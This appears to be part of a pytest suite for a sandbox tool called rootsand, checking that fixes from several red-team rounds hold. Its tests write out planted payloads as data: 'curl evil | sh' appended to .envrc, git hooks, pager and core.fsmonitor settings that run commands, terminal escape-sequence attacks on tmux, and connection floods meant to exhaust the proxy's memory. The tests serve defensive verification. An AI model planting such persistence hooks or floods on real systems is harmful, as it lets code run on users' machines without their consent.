    proc = subprocess.Popen(rootsand_argv() + ["run", "--", "sh", "-c", f"{script}; exec sleep 600"], cwd=directory,
                            env=env_in(directory), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stdout.readline() == "ready\n"
        meanwhile()
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.communicate()


def test_a_pinned_path_changed_in_place_meanwhile_is_caught_after_a_killed_launcher(tmp_path):
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / ".envrc").write_text("export MINE=1\n")
    # a second sandbox over the parent writes the first one's read-only .envrc in place (--unprotect: its own
    # check of protected names at any depth would move it aside first, and this is about the first one's)
    killed_once_ready(proj, "echo ready", lambda: sandbox(
        "sh", "-c", "echo 'curl evil | sh' >> proj/.envrc", opts=["--unprotect", ".envrc"], cwd=tmp_path,
        env=env_in(tmp_path), check_rc=0))
    r = run(["cleanup"], check_rc=0)  # checks what the killed launcher could not
    assert any(line.startswith(f"rootsand: warning: {proj}/.envrc was changed during the run, from outside the "
                               "sandbox, while it was read-only inside") for line in r.stderr.splitlines()), r.stderr
    assert [STAMP.sub("STAMP", n) for n in sorted(os.listdir(proj))] == [".envrc.STAMP"]


def test_what_a_killed_launchers_sandbox_made_at_a_protected_name_is_caught(tmp_path):
    killed_once_ready(tmp_path, "echo evil > .envrc; echo ready")
    r = run(["cleanup"], check_rc=0)
    assert f"rootsand: warning: {tmp_path}/.envrc was made during the run" in r.stderr
    assert [STAMP.sub("STAMP", n) for n in sorted(os.listdir(tmp_path))] == [".envrc.STAMP"]


def test_another_sandboxs_placeholders_are_not_taken_for_what_this_one_made(tmp_path):
    # default leaves .envrc absent and checks it after the run; agent, started meanwhile in the same
    # directory, makes it as an empty read-only placeholder: that is no plant of the first one's.
    first = paused(tmp_path)
    second = paused(tmp_path, "--profile", "agent")
    try:
        assert ".envrc" in os.listdir(tmp_path)
        out, err = first.communicate("end\n", timeout=30)
        assert first.returncode == 0 and "renamed" not in err, err
        assert sorted(os.listdir(tmp_path)) == [".envrc", ".git", ".gitmodules", ".idea", ".vscode"]
    finally:
        out, err2 = second.communicate("end\n", timeout=30)
    assert second.returncode == 0 and "renamed" not in err2, err2
    assert os.listdir(tmp_path) == []


# -- issue 18: the fourth attack's findings ---------------------------------------------------------------

def test_from_home_a_virtual_environment_in_it_cannot_be_planted_in(in_home, tmp_path):
    """Attack finding 1: code runs from plain directories of the home too (a virtual environment's .pth,
    local::lib's ~/perl5): run from $HOME, the whole home is read-only but for what is asked."""
    venv = f"venv-{tmp_path.name}"
    in_home(f"{venv}/lib/python3.11/site-packages", f"perl5-{tmp_path.name}/lib/perl5")
    r = sandbox("sh", "-c", f"echo 'import os' > {venv}/lib/python3.11/site-packages/zz.pth; "
                f"echo 1 > perl5-{tmp_path.name}/lib/perl5/local.pm", cwd=HOME, env=env_in(HOME))
    assert command_stderr(r) == [f"sh: 1: cannot create {venv}/lib/python3.11/site-packages/zz.pth: Read-only file system",
                                 f"sh: 1: cannot create perl5-{tmp_path.name}/lib/perl5/local.pm: Read-only file system"]
    r = sandbox("sh", "-c", f"echo ok > {venv}/ok", opts=["--unprotect", f"~/{venv}"], cwd=HOME, env=env_in(HOME))
    assert (r.returncode, command_stderr(r)) == (0, [])
    assert open(os.path.join(HOME, venv, "ok")).read() == "ok\n"


def test_rootsands_own_code_of_the_users_is_read_only(tmp_path):
    """Attack finding 2: rootsand run from a copy the user owns (an editable install, a venv of theirs)."""
    import rootsand

    lib = tmp_path / "lib"
    shutil.copytree(os.path.dirname(rootsand.__file__), lib / "rootsand", symlinks=True,
                    ignore=shutil.ignore_patterns("__pycache__"))
    if not (lib / "rootsand" / "profiles").exists():  # an editable install keeps them beside the package
        shutil.copytree(os.path.join(os.path.dirname(os.path.dirname(rootsand.__file__)), "profiles"),
                        lib / "rootsand" / "profiles")
    done = subprocess.run([sys.executable, "-P", "-m", "rootsand", "run", "--", "sh", "-c",
                           "echo 'import os' >> lib/rootsand/__init__.py; echo x > lib/rootsand/profiles/default.toml"],
                          cwd=tmp_path, env=dict(os.environ, PYTHONPATH=str(lib)), capture_output=True, text=True,
                          timeout=60, stdin=subprocess.DEVNULL)
    assert command_stderr(done) == ["sh: 1: cannot create lib/rootsand/__init__.py: Read-only file system",
                                    "sh: 1: cannot create lib/rootsand/profiles/default.toml: Read-only file system"]
    assert "import os" not in (lib / "rootsand" / "__init__.py").read_text()


def test_a_repository_made_of_head_and_commondir_is_moved_aside(tmp_path):
    """Attack finding 3: git takes a directory holding HEAD and a commondir file for a repository."""
    git_repo(tmp_path)
    marker = tmp_path.parent / f"{tmp_path.name}-PWNED"
    plant = ("mkdir -p build/cache src && cp -r .git/objects .git/refs build/cache/ && "
             f"printf '[core]\\n\\tpager = touch {marker}; cat\\n' > build/cache/config && "
             "echo 'ref: refs/heads/master' > src/HEAD && echo ../build/cache > src/commondir && echo planted")
    r = sandbox("sh", "-c", plant, cwd=tmp_path, env=env_in(tmp_path))
    assert r.stdout == "planted\n", r.stderr
    assert any(line.startswith(f"rootsand: warning: {tmp_path}/src/HEAD was made or changed by the sandbox")
               for line in r.stderr.splitlines()), r.stderr
    subprocess.run(["git", "-C", str(tmp_path / "src"), "-c", "core.pager=cat", "log", "-p"], capture_output=True,
                   env=dict(os.environ, GIT_PAGER="", PAGER=""))
    subprocess.run(["git", "-C", str(tmp_path / "src"), "log"], capture_output=True)
    assert not marker.exists()


def test_a_profiles_own_writable_bind_is_protected_and_checked(tmp_path):
    """Attack finding 5: every writable bind gets the protected paths and the git check, not only the
    current directory and --bind."""
    lib = git_repo(tmp_path / "lib")
    (tmp_path / "proj").mkdir()
    profile = tmp_path / "p.toml"
    profile.write_text(f'extends = "default"\n[[mount]]\ntype = "bind"\nsrc = "{lib}"\ndst = "/lib-src"\n')
    r = sandbox("sh", "-c", "echo evil > /lib-src/.git/hooks/pre-commit; mkdir /lib-src/sub && cd /lib-src/sub && "
                "git init -q . && echo inited", opts=["--profile", str(profile)], cwd=tmp_path / "proj")
    assert "sh: 1: cannot create /lib-src/.git/hooks/pre-commit: Read-only file system" in r.stderr.splitlines()
    assert r.stdout == "inited\n"
    assert not (lib / "sub" / ".git").exists()
    assert [STAMP.sub("STAMP", n) for n in os.listdir(lib / "sub")] == [".git.STAMP"]


def test_a_commit_in_a_dot_directory_of_home_during_a_run_from_home_is_left_alone(in_home, tmp_path):
    """Attack finding 6: the sandbox could not write the home's dot-directories, so what changed there
    during the run is none of its doing."""
    dotfiles = f".dotfiles-{tmp_path.name}"
    in_home(dotfiles)
    repo = git_repo(os.path.join(HOME, dotfiles))
    proc = paused(HOME)
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com"]
    subprocess.run(git + ["commit", "--allow-empty", "-qm", "x"], check=True)
    out, err = proc.communicate("end\n", timeout=60)
    assert proc.returncode == 0 and "renamed" not in err, err
    assert os.path.isdir(os.path.join(repo, ".git"))


def test_a_rootfs_holding_the_home_is_refused(tmp_path):
    """Attack finding 7: --rootfs mounts the tree writable as it is."""
    for tree, held in (("/", os.path.dirname(HOME)), (HOME, HOME)):
        r = sandbox("true", opts=["--rootfs", tree], cwd=tmp_path)
        assert r.returncode == 125 and r.stderr.splitlines()[0].startswith(f"rootsand: error: --rootfs {tree}: it holds "), r.stderr


def test_a_bind_holding_the_registry_leaves_it_alone(tmp_path):
    """Attack finding 8: the registry, inside a writable bind, was pinned read-only and then renamed aside
    as changed from outside, when it was rootsand itself writing it."""
    other = paused(tmp_path / ".." if False else tmp_path)
    try:
        name = [n for n in run(["ps", "-q"], check_rc=0).stdout.split()]
        r = sandbox("true", opts=["--bind", "/tmp"], cwd=tmp_path)
        assert r.returncode == 0 and "renamed" not in r.stderr, r.stderr
        assert set(name) <= set(run(["ps", "-q"], check_rc=0).stdout.split())
    finally:
        other.communicate("end\n", timeout=30)
    assert not [n for n in os.listdir("/tmp") if n.startswith(f"rootsand-{os.getuid()}") and "quarantine" in n]


# -- issue 18: the fifth attack's findings (a second round on the fixes) ---------------------------------

@pytest.mark.parametrize("existing", [True, False])
def test_hooks_where_core_hookspath_points_inside_the_project_are_protected(tmp_path, existing):
    """Fifth attack, finding 1: husky's core.hooksPath = .husky/_ runs hooks from the working tree."""
    repo = git_repo(tmp_path / "proj")
    subprocess.run(["git", "-C", str(repo), "config", "core.hooksPath", ".husky/_"], check=True)
    marker = tmp_path / "PWNED"
    if existing:
        (repo / ".husky" / "_").mkdir(parents=True)
        (repo / ".husky" / "_" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
        os.chmod(repo / ".husky" / "_" / "pre-commit", 0o755)
    plant = (f"mkdir -p .husky/_; printf '#!/bin/sh\\ntouch {marker}\\n' > .husky/_/pre-commit; "
             "chmod +x .husky/_/pre-commit; echo done")
    r = sandbox("sh", "-c", plant, cwd=repo, env=env_in(repo))
    assert r.stdout == "done\n", r.stderr
    if existing:
        assert "sh: 1: cannot create .husky/_/pre-commit: Read-only file system" in r.stderr.splitlines()
    else:
        assert f"rootsand: warning: {repo}/.husky was made during the run" in r.stderr  # (its first missing part)
    subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com", "commit",
                    "--allow-empty", "-qm", "x"], capture_output=True)
    assert not marker.exists()


def test_hooks_path_of_the_enclosing_repository_is_protected_from_a_subdirectory(tmp_path):
    """Third attack on the change, finding 2: husky in a monorepo's frontend/ sets core.hooksPath =
    frontend/.husky/_ at the top; a sandbox run from frontend/ must not rewrite those hooks."""
    repo = git_repo(tmp_path / "mono")
    hooks = repo / "frontend" / ".husky" / "_"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    os.chmod(hooks / "pre-commit", 0o755)
    with open(repo / ".git" / "config", "a") as f:
        f.write("[core] hooksPath = frontend/.husky/_\n")  # a valid git config line, section and key at once
    marker = tmp_path / "PWNED"
    front = repo / "frontend"
    r = sandbox("sh", "-c", f"printf '#!/bin/sh\\ntouch {marker}\\n' > .husky/_/pre-commit", cwd=front, env=env_in(front))
    assert command_stderr(r) == ["sh: 1: cannot create .husky/_/pre-commit: Read-only file system"]
    subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com", "commit",
                    "--allow-empty", "-qm", "x"], capture_output=True)
    assert not marker.exists()


def test_a_hook_planted_in_a_bare_repository_that_was_there_is_moved_aside(tmp_path):
    """Fifth attack, finding 2: a bare repository's hooks run when the user pushes into it."""
    subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / "origin.git")], check=True)
    marker = tmp_path.parent / f"{tmp_path.name}-PWNED"
    r = sandbox("sh", "-c", f"printf '#!/bin/sh\\ntouch {marker}\\n' > origin.git/hooks/pre-receive; "
                "chmod +x origin.git/hooks/pre-receive", cwd=tmp_path, env=env_in(tmp_path), check_rc=0)
    assert any(line.startswith(f"rootsand: warning: {tmp_path}/origin.git/hooks was made or changed by the sandbox")
               for line in r.stderr.splitlines()), r.stderr
    clone = tmp_path.parent / f"{tmp_path.name}-clone"
    git = ["-c", "user.name=t", "-c", "user.email=t@example.com"]
    subprocess.run(["git", "clone", "-q", str(tmp_path / "origin.git"), str(clone)], capture_output=True)
    subprocess.run(["git", "-C", str(clone), *git, "commit", "--allow-empty", "-qm", "x"], check=True)
    subprocess.run(["git", "-C", str(clone), "push", "-q", "origin", "HEAD"], capture_output=True)
    assert not marker.exists()


def test_a_symlinked_dotfile_is_read_only_where_it_leads(in_home, tmp_path):
    """Fifth attack, finding 3: a dotfiles manager links ~/.bashrc to ~/dotfiles/bashrc; running from
    ~/dotfiles must not make what the host's shells read writable."""
    dotfiles = f"dotfiles-{tmp_path.name}"
    in_home(dotfiles)
    target = os.path.join(HOME, dotfiles, "rc")
    with open(target, "w") as f:
        f.write("# mine\n")
    link = os.path.join(HOME, f".rc-{tmp_path.name}")
    os.symlink(f"{dotfiles}/rc", link)
    try:
        where = os.path.join(HOME, dotfiles)
        r = sandbox("sh", "-c", "echo evil >> rc; echo ok > other", cwd=where, env=env_in(where))
        assert command_stderr(r) == ["sh: 1: cannot create rc: Read-only file system"]
        assert open(target).read() == "# mine\n"
        assert open(os.path.join(where, "other")).read() == "ok\n"  # the rest of the directory is writable
    finally:
        os.unlink(link)


def test_a_protected_name_planted_below_the_top_is_moved_aside(tmp_path):
    """direnv runs `.envrc` of any directory the user enters; a sandbox over ~/work plants work/proj/.envrc."""
    (tmp_path / "proj").mkdir()
    r = sandbox("sh", "-c", "echo 'curl evil | sh' > proj/.envrc; mkdir -p proj/.vscode; echo '{}' > proj/.vscode/tasks.json",
                cwd=tmp_path, env=env_in(tmp_path), check_rc=0)
    said = sorted(STAMP.sub("STAMP", line) for line in r.stderr.splitlines() if "renamed to" in line)
    assert said == [f"rootsand: warning: {tmp_path}/proj/{name} was made or changed by the sandbox: renamed to "
                    f"{name}.STAMP, so direnv and editors do not run what it names (rename it back if you trust it)"
                    for name in (".envrc", ".vscode")]
    assert sorted(STAMP.sub("STAMP", n) for n in os.listdir(tmp_path / "proj")) == [".envrc.STAMP", ".vscode.STAMP"]


def test_a_directory_looks_as_it_was_while_the_sandbox_runs(tmp_path):
    """Finding 7: in default, build and fakeroot, nothing is made for the run: no empty .git, .envrc, ..."""
    (tmp_path / "README").write_text("hi\n")
    for profile in ("default", "build", "fakeroot"):
        proc = paused(tmp_path, "--profile", profile)
        try:
            assert sorted(os.listdir(tmp_path)) == ["README"]
        finally:
            out, err = proc.communicate("end\n", timeout=30)
        assert proc.returncode == 0, err
    r = sandbox("sh", "-c", "ls -A; test -d .git || echo no-git", cwd=tmp_path, check_rc=0)
    assert r.stdout == "README\nno-git\n"


# -- issue 18, finding 6: another user takes /tmp/rootsand-UID -------------------------------------------------

def test_a_runtime_directory_another_user_took_in_tmp_is_left_alone(tmp_path):
    """Another user's `mkdir -m 0700 /tmp/rootsand-UID` stopped every command of a user without
    $XDG_RUNTIME_DIR, and its hint "remove it" cannot be followed in the sticky /tmp. The other user here is
    uid 1 of `rootsand unshare` (a subordinate id), whose directory is bound over the name in a mount namespace
    of the test's own: other runs keep the real one (tests/root has it with a real second user). The entry
    planted there names a process of the user as a running sandbox: it is never read, so never listed nor
    signalled."""
    import json
    import re
    import shutil

    uid = os.getuid()
    os.makedirs(f"/tmp/rootsand-{uid}", mode=0o700, exist_ok=True)  # the mount point, as any run makes it
    foreign, work = tmp_path / "foreign", tmp_path / "work"
    (foreign / "sandboxes").mkdir(parents=True)
    work.mkdir()
    victim = subprocess.Popen(["sleep", "120"])
    with open(f"/proc/{victim.pid}/stat") as f:
        started = int(f.read().rsplit(")", 1)[1].split()[19])
    me = {"pid": victim.pid, "start": started}
    (foreign / "sandboxes" / "planted.json").write_text(json.dumps(
        {"name": "planted", "status": "running", "created": time.time(), "launcher": me, "setup": me, "pid1": me,
         "namespaces": {}}))
    rs = " ".join(rootsand_argv())
    script = (f"chmod -R go-rwx {foreign} && chown -R 1:1 {foreign} && mount --bind {foreign} /tmp/rootsand-{uid} && "
              f"export XDG_STATE_HOME={tmp_path}/state && ({rs} run --name taken -- sleep 60 &) && "
              f"for i in $(seq 100); do {rs} ps -q | grep -qx taken && break; sleep 0.1; done; {rs} ps -q; "
              f"{rs} exec taken -- echo inside; {rs} stop planted; {rs} stop taken && echo stopped")
    try:
        r = run(["unshare", "--", "unshare", "--mount", "--", "sh", "-c", script], cwd=work, timeout=120,
                env={k: v for k, v in os.environ.items() if k != "XDG_RUNTIME_DIR"})
    finally:
        run(["unshare", "--", "rm", "-rf", str(foreign)], check_rc=0)
        alive = victim.poll() is None
        victim.kill()
        victim.wait()
    used = set(re.findall(rf"rootsand: warning: /tmp/rootsand-{uid} belongs to uid 1: using "
                          rf"(/tmp/rootsand-{uid}-[0-9a-f]{{16}})\n", r.stderr))
    modes = [os.lstat(path).st_mode & 0o7777 for path in used]
    for path in used:
        shutil.rmtree(path, ignore_errors=True)
    assert r.stdout.splitlines() == ["taken", "inside", "stopped"], r.stderr
    assert modes == [0o700] and alive, r.stderr
    assert "rootsand: error: no sandbox named planted is running" in r.stderr.splitlines()


# -- issue 18, finding 4: the terminal after exit


def test_the_terminal_leaves_the_alternate_screen_after_ris_and_keeps_its_tab_stops(tmp_path):
    """The sandbox turns the alternate screen on, then sends RIS (which tmux applies without leaving the
    alternate screen) and clears every tab stop: after the command's output, rootsand's exit resets leave
    the alternate screen, and neither RIS nor the tab clear reaches the terminal."""
    import re

    status, received = pty_session(["run", "--", "sh", "-c", r"printf '\033[?1049h\033c\033[3gEND'"], seconds=30,
                                   cwd=tmp_path)
    assert status == 0
    assert b"\x1b[?1049h" in received and b"END" in received
    assert b"\x1bc" not in received and b"\x1b[3g" not in received
    alternate = re.findall(rb"\x1b\[\?(?:47|1047|1049)[hl]", received[received.index(b"END"):])
    assert alternate and alternate[-1] in (b"\x1b[?1047l", b"\x1b[?1049l"), received


ATTACKS_ON_TMUX = {
    "issue": b"\x1b[?1049h\x1bc\x1b[3g",
    "everything": (b"\x1b[?1049h\x1b[?1000;1006h\x1b[4h\x1b[?1h\x1b=\x1b[?6h\x1b[?7l\x1b[?25l\x1b[5;10r\x1b(0"
                   b"\x1b)0\x0e\x1b[1;31m\x1b[5 q\x1b[?12h\x1bc\x1b[3g\x1bH\x1b[?1049h\x1b[?1002h\x1b[4h\x1b[?1h"
                   b"\x1b=\x1b[?6h\x1b[?7l\x1b[?25l\x1b[3;8r\x1b(0\x1b[7m\x1b[2 q\x1b7\x1b(B\x1b[?1049l\x1b8"
                   b"lqqk\r\n"),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS_ON_TMUX))
def test_tmux_is_as_before_after_a_sandbox_changed_its_modes(tmp_path, attack):
    """rootsand in a tmux pane: what tmux says of the pane's modes after the run is what it said before, a tab
    still goes to column 8, and neither attributes nor the line-drawing character set are left on."""
    import shlex
    import shutil
    import tempfile

    if shutil.which("tmux") is None:
        pytest.skip("tmux is not installed")
    (tmp_path / "attack").write_bytes(ATTACKS_ON_TMUX[attack])
    directory = tempfile.mkdtemp(prefix="rs-tmux-", dir="/tmp")  # a socket path must be short
    tmux = ["tmux", "-S", os.path.join(directory, "socket"), "-f", "/dev/null"]
    script = (f"until [ -e go ]; do sleep 0.05; done; {shlex.join(rootsand_argv())} run -- cat attack; "
              "printf 'a\\tb|qx\\n'; echo DONE; sleep 60")
    modes = ("#{alternate_on} #{cursor_flag} #{insert_flag} #{keypad_cursor_flag} #{keypad_flag} #{mouse_any_flag} "
             "#{mouse_button_flag} #{mouse_standard_flag} #{mouse_sgr_flag} #{mouse_utf8_flag} #{mouse_all_flag} "
             "#{origin_flag} #{wrap_flag} #{scroll_region_upper} #{scroll_region_lower}")

    env = {name: value for name, value in os.environ.items() if name != "TMUX"}  # even when run inside tmux

    def tmux_says(*args) -> str:
        return subprocess.run(tmux + list(args), capture_output=True, text=True, check=True, timeout=10,
                              env=env).stdout

    tmux_says("new-session", "-d", "-x", "100", "-y", "30", "-c", str(tmp_path), "sh", "-c", script)
    try:
        before = tmux_says("display", "-p", modes)
        (tmp_path / "go").touch()
        deadline = time.monotonic() + 60
        while "DONE" not in (screen := tmux_says("capture-pane", "-p")) and time.monotonic() < deadline:
            time.sleep(0.1)
        after = tmux_says("display", "-p", modes)
        styled = tmux_says("capture-pane", "-p", "-e")  # with the attributes, SO for the line-drawing set
    finally:
        subprocess.run(tmux + ["kill-server"], capture_output=True, timeout=10, env=env)
        shutil.rmtree(directory, ignore_errors=True)
    assert "DONE" in screen, screen
    assert after == before, (before, after)
    assert [line for line in screen.splitlines() if line[:1] == "a" and line[8:] == "b|qx"], screen
    assert [line for line in styled.splitlines() if line.endswith(" b|qx")], styled


# -- issue 18, finding 3 and 5: the proxy's memory, and wildcards that reach the host's loopback ----------

def proxy_status(launcher: int) -> dict:
    """/proc/PID/status of the launcher's proxy process: the child it forked in its own pid namespace
    (the sandbox's processes are in another, so their NSpid has one more number)."""

    def status(pid) -> dict:
        with open(f"/proc/{pid}/status") as f:
            return dict(line.rstrip("\n").split(":\t", 1) for line in f if ":\t" in line)

    depth = len(status(launcher)["NSpid"].split())
    found = []
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            child = status(name)
        except OSError:
            continue  # gone
        if child["PPid"] == str(launcher) and len(child["NSpid"].split()) == depth:
            found.append(child)
    assert len(found) == 1, f"expected one proxy process, found {found}"
    return found[0]


def test_tunnels_that_never_read_cannot_grow_the_proxy(tmp_path):
    """Finding 3: the proxy runs on the host, outside every limit of the sandbox. 600 CONNECT tunnels whose
    client never reads, from a server that sends all it can, grew it to hundreds of MB; its memory must
    stay small."""
    import os
    import select
    import selectors
    import socket
    import subprocess
    import threading

    tunnels, most = 600, 16 << 20  # bytes the server offers each connection at most
    listener = socket.create_server(("127.0.0.1", 0), backlog=tunnels + 16)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    stop, settled, accepted, dropped = threading.Event(), threading.Event(), [], []

    def flood():
        """Send each connection all it takes, up to `most`; settled once all are accepted and none has taken
        a byte for two seconds (the proxy stopped reading them). The client sends nothing after its CONNECT,
        so a connection that turns readable was ended by the proxy."""
        data = bytes(256 << 10)
        sent = {}
        with selectors.DefaultSelector() as selector:
            selector.register(listener, selectors.EVENT_READ)
            while not stop.is_set():
                events = selector.select(timeout=2.0)
                if not events and len(accepted) >= tunnels:
                    settled.set()
                for key, mask in events:
                    conn = key.fileobj
                    if conn is listener:
                        try:
                            conn, _ = listener.accept()
                        except BlockingIOError:
                            continue
                        conn.setblocking(False)
                        accepted.append(conn)
                        sent[conn] = 0
                        selector.register(conn, selectors.EVENT_READ | selectors.EVENT_WRITE)
                        continue
                    try:
                        if mask & selectors.EVENT_READ:
                            raise ConnectionResetError
                        sent[conn] += conn.send(data)
                    except BlockingIOError:
                        continue
                    except OSError:
                        dropped.append(conn)
                        selector.unregister(conn)
                        continue
                    if sent[conn] >= most:
                        selector.modify(conn, selectors.EVENT_READ)

    script = ("import socket, sys\n"
              f"tunnels = [socket.create_connection(('127.0.0.1', 3128)) for _ in range({tunnels})]\n"
              "for s in tunnels:\n"
              f"    s.sendall(b'CONNECT host.rootsand.internal:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n"
              "opened = 0\n"
              "for s in tunnels:\n"
              "    head = b''\n"
              "    while not head.endswith(b'\\r\\n\\r\\n') and (byte := s.recv(1)):\n"
              "        head += byte\n"
              "    opened += head.startswith(b'HTTP/1.1 200 ')  # what the server sends after it is never read\n"
              "print(opened, 'tunnels open', flush=True)\n"
              "sys.stdin.read()  # until the test has measured\n")

    thread = threading.Thread(target=flood, daemon=True)
    thread.start()
    with open(tmp_path / "stderr", "w") as stderr:
        proc = subprocess.Popen(rootsand_argv() + ["run", "--net", "proxy", "--allow-host",
                                                   f"host.rootsand.internal:{port}", "--", "python3", "-c", script],
                                stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=stderr, text=True, cwd=tmp_path)
    try:
        assert select.select([proc.stdout], [], [], 120)[0], "the tunnels did not open"
        opened = proc.stdout.readline()
        assert settled.wait(120), f"the server was still sending after 120 s ({len(accepted)} connections)"
        status, ended = proxy_status(proc.pid), len(dropped)
        proc.stdin.close()
        assert proc.wait(60) == 0
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        stop.set()
        thread.join(10)
        for conn in accepted + [listener]:
            conn.close()
    assert (opened, ended) == (f"{tunnels} tunnels open\n", 0)
    said = (tmp_path / "stderr").read_text().splitlines()
    assert [line for line in said if "proxy" in line or not line.startswith("rootsand: warning:")] == []
    rss, peak = (int(status[key].split()[0]) >> 10 for key in ("VmRSS", "VmHWM"))
    # (an idle proxy is ~21 MiB with Debian 12's Python, more with 13's; the old code reached 724-800 MiB)
    assert peak < 96, f"the proxy holds {rss} MiB with {tunnels} tunnels that never read (peak {peak} MiB)"


def test_a_wildcard_allow_host_reaching_the_hosts_loopback_needs_a_port(tmp_path):
    """Finding 5: *.rootsand.internal opened the host's loopback on ports 80 and 443 without naming them."""
    r = run(["run", "--allow-host", "*.rootsand.internal", "--", "true"], cwd=tmp_path)
    assert (r.returncode, r.stdout, r.stderr.splitlines()) == (125, "", [
        "rootsand: error: invalid --allow-host '*.rootsand.internal': it matches host.rootsand.internal, the "
        "host's own loopback, which needs a port (host.rootsand.internal:8080 or *.rootsand.internal:8080): only "
        "the ports you name of the host's own services are reachable"])


def test_tunnels_held_open_do_not_keep_their_parsed_request_heads(tmp_path):
    """Third attack on the change, finding 1: each parsed head (h11 keeps a 60 KiB head of tiny headers as
    ~12,000 objects, ~2 MB) stayed alive while its tunnel waited and relayed: 1000 such tunnels to a host
    that holds connections open took the proxy to ~2 GB."""
    import socket
    import threading

    tunnels = 300
    listener = socket.create_server(("127.0.0.1", 0), backlog=tunnels + 16)
    port = listener.getsockname()[1]
    held, stop = [], threading.Event()

    def hold():
        listener.settimeout(0.5)
        while not stop.is_set():
            try:
                held.append(listener.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=hold, daemon=True)
    thread.start()
    script = ("import socket, sys\n"
              f"head = b'CONNECT host.rootsand.internal:{port} HTTP/1.1\\r\\nHost: x\\r\\n' + b'ab:\\r\\n' * 12000 + b'\\r\\n'\n"
              "opened = 0\n"
              "kept = []\n"
              f"for _ in range({tunnels}):\n"
              "    s = socket.create_connection(('127.0.0.1', 3128))\n"
              "    s.sendall(head)\n"
              "    opened += s.recv(12).startswith(b'HTTP/1.1 200')\n"
              "    kept.append(s)\n"
              "print(opened, 'tunnels open', flush=True)\n"
              "sys.stdin.read()\n")
    try:
        opened, peak = proxy_peak_while(tmp_path, ["--allow-host", f"host.rootsand.internal:{port}"], script)
    finally:
        stop.set()
        thread.join(timeout=5)
        for conn in held:
            conn.close()
        listener.close()
    assert opened == f"{tunnels} tunnels open\n"
    assert peak < 96, f"the proxy held {peak} MiB at its peak with {tunnels} tunnels"  # 625 MiB on the old code


def proxy_peak_while(tmp_path, opts: list[str], script: str) -> tuple[str, int]:
    """Run SCRIPT (python3) in a proxy sandbox until its first line; that line, and the proxy's peak memory
    then (MiB). The script waits on stdin for the end; the run must end with status 0."""
    import select

    proc = subprocess.Popen(rootsand_argv() + ["run", "--net", "proxy", *opts, "--", "python3", "-c", script],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            cwd=tmp_path)
    try:
        assert select.select([proc.stdout], [], [], 180)[0], "the script said nothing in 180 s"
        first = proc.stdout.readline()
        status = proxy_status(proc.pid)
        _, err = proc.communicate("", timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert proc.returncode == 0, err
    return first, int(status["VmHWM"].split()[0]) >> 10


def test_refused_connections_leave_nothing_in_the_proxy(tmp_path):
    """Attack round 5, g01: the proxy was forked while the start-up had the cyclic collector off (cli/main.py)
    and never turned it on, so every connection's reference cycles (asyncio, h11) stayed: 300 refused CONNECTs
    with 60 KiB heads took it to 637 MiB, on the host, outside the sandbox's limits."""
    connections = 300
    script = ("import socket, sys\n"
              "head = b'CONNECT evil.example:443 HTTP/1.1\\r\\n' + b'ab:\\r\\n' * 12000 + b'\\r\\n'\n"
              "refused = 0\n"
              f"for _ in range({connections}):\n"
              "    s = socket.create_connection(('127.0.0.1', 3128))\n"
              "    s.sendall(head)\n"
              "    refused += s.recv(12).startswith(b'HTTP/1.1 4')\n"
              "    s.close()\n"
              "print(refused, 'refused', flush=True)\n"
              "sys.stdin.read()\n")
    refused, peak = proxy_peak_while(tmp_path, [], script)
    assert refused == f"{connections} refused\n"
    assert peak < 96, f"the proxy held {peak} MiB at its peak after {connections} refused connections"


def test_a_stopped_terminal_does_not_stop_the_checks_after_the_run(tmp_path):
    """Attack round 5, t01: with new_session = false the command has the user's terminal, and tcflow(TCOOFF)
    stopped its output: the launcher's next line blocked for ever, so the checks after the run never ran and
    a planted repository's core.fsmonitor stayed for the user's git to run. rootsand writes a terminal
    through a non-blocking description of its own, waits 10 s at most, and goes on."""
    import pty
    import termios

    proj = git_repo(tmp_path / "proj")
    profile = tmp_path / "nosession.toml"
    profile.write_text('extends = "default"\n[security]\nnew_session = false\n')
    plant = ("touch .envrc; mkdir sub; cd sub; git init -q .; git config core.fsmonitor 'touch ../../ran; false'; "
             "python3 -c 'import termios; termios.tcflow(2, termios.TCOOFF)'; exit 3")
    controller, terminal = pty.openpty()
    try:
        proc = subprocess.Popen(rootsand_argv() + ["run", "--profile", str(profile), "--", "sh", "-c", plant],
                                cwd=proj, env=env_in(proj), stdin=terminal, stdout=terminal, stderr=terminal,
                                start_new_session=True)
        try:
            code = proc.wait(timeout=120)  # waits 10 s for the stopped terminal, once
        finally:
            if proc.poll() is None:
                termios.tcflow(controller, termios.TCOON)
                try:
                    proc.wait(timeout=30)
                except subprocess.TimeoutExpired:
                    proc.kill()
                    proc.wait()
    finally:
        os.close(terminal)
        os.close(controller)
    assert code == 3
    assert sorted(STAMP.sub("STAMP", name) for name in os.listdir(proj)) == [".envrc.STAMP", ".git", "sub"]
    assert [STAMP.sub("STAMP", name) for name in os.listdir(proj / "sub")] == [".git.STAMP"]
    subprocess.run(["git", "-C", str(proj / "sub"), "status"], capture_output=True)
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("stderr", ["gone", "non-blocking"])
def test_every_check_after_the_run_is_done_whatever_became_of_stderr(tmp_path, stderr):
    """Attack round 4: the checks after a run stopped at the first warning that could not be written. A
    sandbox read through `| head` (its reader gone), or one that made the stderr it shares with the launcher
